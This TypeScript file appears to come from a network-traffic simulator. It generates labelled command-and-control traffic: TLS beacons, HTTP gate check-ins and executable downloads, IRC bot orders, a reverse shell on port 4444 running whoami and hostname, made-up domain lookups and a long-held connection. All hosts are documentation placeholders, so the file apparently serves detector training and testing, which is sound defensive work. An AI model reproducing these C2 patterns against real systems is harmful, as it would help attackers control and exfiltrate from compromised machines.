/** Programs that take orders from outside: beacons, gates, made-up names, connections held for hours. */
import { resolve } from '../background/names.js';
import { tlsHandshake } from '../background/web.js';
import type { Play } from '../simulation.js';
import { ascii, concat } from '../wire/bytes.js';
import { DnsType } from '../wire/dns.js';
import type { Host } from '../wire/host.js';
import { ciphertext, tlsData } from '../wire/payloads.js';
import { type AttackKind, type AttackSettings, type AttackStage, paced } from './attack.js';
import { addressOf, connection, desk, oneOfMany, outsider, spawnAt } from './cast.js';

function* callHome(stage: AttackStage, ends: { client: Host; server: Host; bytes: number }, timeUs: number): Play {
  const one = connection({ ...ends, port: 443 }, timeUs, stage);
  yield* one.open();
  yield* tlsHandshake(one, 'updates.metrics.example', stage.random);
  yield* one.send('client', tlsData(stage.random, ends.bytes));
  yield* one.send('server', tlsData(stage.random, stage.random.between(120, 180)));
  yield* one.close('client');
}

/** Calls home at even times. */
export const beacon = {
  name: 'beacon',
  summary: 'a desk that calls home over TLS at nearly even times',
  unit: 'calls',
  defaults: { packets: 40, packetsPerSecond: 0.1, jitter: 0.2, bytes: 300 },
  calm: 4,
  start(stage, settings) {
    const client = desk(stage, 4);
    const server = outsider(stage, 'updates.metrics.example', '203.0.113.40');
    const one = (timeUs: number) => callHome(stage, { client, server, bytes: settings.bytes }, timeUs);
    stage.scene.spawn(spawnAt(stage, paced(stage, settings), one), stage.startUs);
    return labelOf(settings, { label: 'beacon_tls', client, server: '203.0.113.40:443' });
  },
} as const satisfies AttackKind;

function labelOf(
  { packets, packetsPerSecond }: AttackSettings,
  { label, client, server }: { label: string; client: Host; server: string },
) {
  const note = `${packets} in all, ${packetsPerSecond}/s`;
  return { label, category: 'c2' as const, attacker: addressOf(client), victim: server, note };
}

function* gateVisit(stage: AttackStage, ends: { client: Host; server: Host; index: number }, timeUs: number): Play {
  const one = connection({ ...ends, port: 80 }, timeUs, stage);
  const isFetching = ends.index % 4 === 3;
  const body = `id=${stage.random.word(16, '0123456789abcdef')}&os=10.0&task=${ends.index}`;
  const rest = 'Host: 203.0.113.90\r\nUser-Agent: Mozilla/4.0\r\nConnection: close\r\n';
  const post = `POST /panel/gate.php HTTP/1.1\r\n${rest}Content-Length: ${body.length}\r\n\r\n${body}`;
  yield* one.open();
  yield* one.send('client', ascii(isFetching ? `GET /load/task${ends.index}.exe HTTP/1.1\r\n${rest}\r\n` : post));
  const data = isFetching ? concat([ascii('MZ'), ciphertext(stage.random, 18_000)]) : ascii('wait 10');
  yield* one.send('server', concat([ascii(`HTTP/1.1 200 OK\r\nContent-Length: ${data.length}\r\n\r\n`), data]));
  yield* one.close('server');
}

/** One program fetched at a bare address by something that says to be an old browser. */
function* disguisedVisit(
  stage: AttackStage,
  ends: { client: Host; server: Host; index: number },
  timeUs: number,
): Play {
  const one = connection({ ...ends, port: 80 }, timeUs, stage);
  const agent = 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)';
  const head = `GET /d/${stage.random.word(6, 'abcdefghij')}.exe HTTP/1.1\r\nUser-Agent: ${agent}\r\nHost: 203.0.113.90\r\n\r\n`;
  yield* one.open();
  yield* one.send('client', ascii(head));
  const data = concat([ascii('MZ'), ciphertext(stage.random, 12_000)]);
  yield* one.send('server', concat([ascii(`HTTP/1.1 200 OK\r\nContent-Length: ${data.length}\r\n\r\n`), data]));
  yield* one.close('server');
}

/** A bot joins a channel and waits for orders (RFC 2812), on a port of the web. */
function* chat(stage: AttackStage, ends: { client: Host; server: Host; index: number }, timeUs: number): Play {
  const one = connection({ ...ends, port: 8080 }, timeUs, stage);
  const nick = `x${stage.random.word(6, '0123456789')}`;
  yield* one.open();
  yield* one.send('client', ascii(`NICK ${nick}\r\nUSER ${nick} 0 * :${nick}\r\n`));
  yield* one.send('server', ascii(`:c2.example 001 ${nick} :Welcome\r\n`));
  yield* one.send('client', ascii('JOIN #work\r\n'));
  yield* one.send('server', ascii(':op!o@c2.example PRIVMSG #work :.wait 60\r\n'));
  yield* one.pause(3_000_000);
  yield* one.close('client');
}

const GREETING =
  'Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n';
const PROMPT = 'C:\\Users\\desk>';

/** A command shell that calls out, and somebody who looks around with it. */
function* shell(stage: AttackStage, ends: { client: Host; server: Host; index: number }, timeUs: number): Play {
  const one = connection({ ...ends, port: 4444 }, timeUs, stage);
  yield* one.open();
  yield* one.send('client', ascii(`${GREETING}${PROMPT}`));
  for (const [order, answer] of [
    ['whoami', 'office\\desk'],
    ['hostname', 'DESK-7'],
  ]) {
    yield* one.pause(2_000_000);
    yield* one.send('server', ascii(`${order}\n`));
    yield* one.send('client', ascii(`${order}\n${answer}\r\n\r\n${PROMPT}`));
  }
  yield* one.close('server');
}

/** The path of the gate asked of one server after the other, of which one is meant; nothing says which program asks. */
function* hiddenVisit(stage: AttackStage, ends: { client: Host; index: number }, timeUs: number): Play {
  const one = connection({ client: ends.client, server: oneOfMany(stage, ends.index), port: 80 }, timeUs, stage);
  yield* one.open();
  yield* one.send('client', ascii(`GET /images/post.php HTTP/1.0\r\nHost: shop${ends.index}.example\r\n\r\n`));
  yield* one.send('server', ascii('HTTP/1.0 404 Not Found\r\nContent-Length: 10\r\n\r\nNot here.\n'));
  yield* one.close('server');
}

const ORDERS = { http: gateVisit, disguised: disguisedVisit, irc: chat, shell, hidden: hiddenVisit } as const;

/** Orders and programs over plain HTTP, IRC or a shell. */
export const commandAndControl = {
  name: 'command-and-control',
  summary:
    'a desk that takes orders and programs: from a script (http), as a false old browser (disguised), by chat (irc), into a shell that calls out (shell), or from one of many servers (hidden)',
  unit: 'visits',
  techniques: ['http', 'disguised', 'irc', 'shell', 'hidden'],
  defaults: { packets: 12, packetsPerSecond: 0.5, jitter: 0.5 },
  byTechnique: { disguised: { packets: 2 }, irc: { packets: 2 }, shell: { packets: 1 }, hidden: { packets: 10 } },
  start(stage, settings) {
    const client = desk(stage, 6);
    const server = outsider(stage, 'gate', '203.0.113.90');
    const visit = ORDERS[settings.technique as keyof typeof ORDERS];
    const one = (timeUs: number, index: number) => visit(stage, { client, server, index }, timeUs);
    stage.scene.spawn(spawnAt(stage, paced(stage, settings), one), stage.startUs);
    const asked = settings.technique === 'hidden' ? '203.0.113.0/24 198.51.100.0/24' : '203.0.113.90:80';
    return labelOf(settings, { label: `command_and_control_${settings.technique}`, client, server: asked });
  },
} as const satisfies AttackKind;

/** A name as a program makes it up, under a top that resolvers refuse on their own (RFC 6761, 6.2 and 6.4). */
function madeUpName(stage: AttackStage): string {
  const letters = stage.random.word(stage.random.between(11, 17), 'abcdefghijklmnopqrstuvwxyz');
  return `${letters}.${stage.random.pick(['test', 'invalid'])}`;
}

/** Names that a program makes up until one exists. */
export const generatedDomains = {
  name: 'generated-domains',
  summary: 'a desk that asks for made-up domains, none of which exists',
  unit: 'names',
  defaults: { packets: 60, packetsPerSecond: 4, jitter: 0.8 },
  start(stage, settings) {
    const client = desk(stage, 7);
    const one = (timeUs: number) => {
      const name = madeUpName(stage);
      const question = { id: stage.random.between(0, 65_535), name, type: DnsType.a };
      stage.scene.network.dnsCache.set(`${name} ${DnsType.a}`, Number.POSITIVE_INFINITY);
      const lookup = { client, question, records: [], exists: false, cacheable: true };
      return resolve(stage.scene, lookup, stage.random.fork('path'), timeUs) as Play<unknown> as Play;
    };
    stage.scene.spawn(spawnAt(stage, paced(stage, settings), one), stage.startUs);
    const { resolver } = stage.scene.network.servers;
    return labelOf(settings, { label: 'generated_domains', client, server: `${addressOf(resolver)} (resolver)` });
  },
} as const satisfies AttackKind;

function* heldConnection(stage: AttackStage, settings: AttackSettings, ends: { client: Host; server: Host }): Play {
  const one = connection({ ...ends, port: 443 }, stage.startUs, stage);
  yield* one.open();
  yield* tlsHandshake(one, 'relay.remote.example', stage.random);
  for (const timeUs of paced(stage, settings)) {
    if (timeUs > one.timeUs) yield* one.pause(timeUs - one.timeUs);
    yield* one.send('client', tlsData(stage.random, stage.random.between(60, 200)));
    yield* one.send('server', tlsData(stage.random, stage.random.between(60, 600)));
  }
  yield* one.close('client');
}

/** One connection to the outside for hours. */
export const longConnection = {
  name: 'long-connection',
  summary: 'one TLS connection of a desk to the outside that is held for hours',
  unit: 'messages',
  defaults: { packets: 180, packetsPerSecond: 0.012, jitter: 0.5 },
  calm: 80,
  hosts: 3,
  start(stage, settings) {
    const client = desk(stage, 1);
    const server = outsider(stage, 'relay.remote.example', '203.0.113.60');
    stage.scene.spawn(heldConnection(stage, settings, { client, server }), stage.startUs);
    return labelOf(settings, { label: 'long_connection', client, server: '203.0.113.60:443' });
  },
} as const satisfies AttackKind;
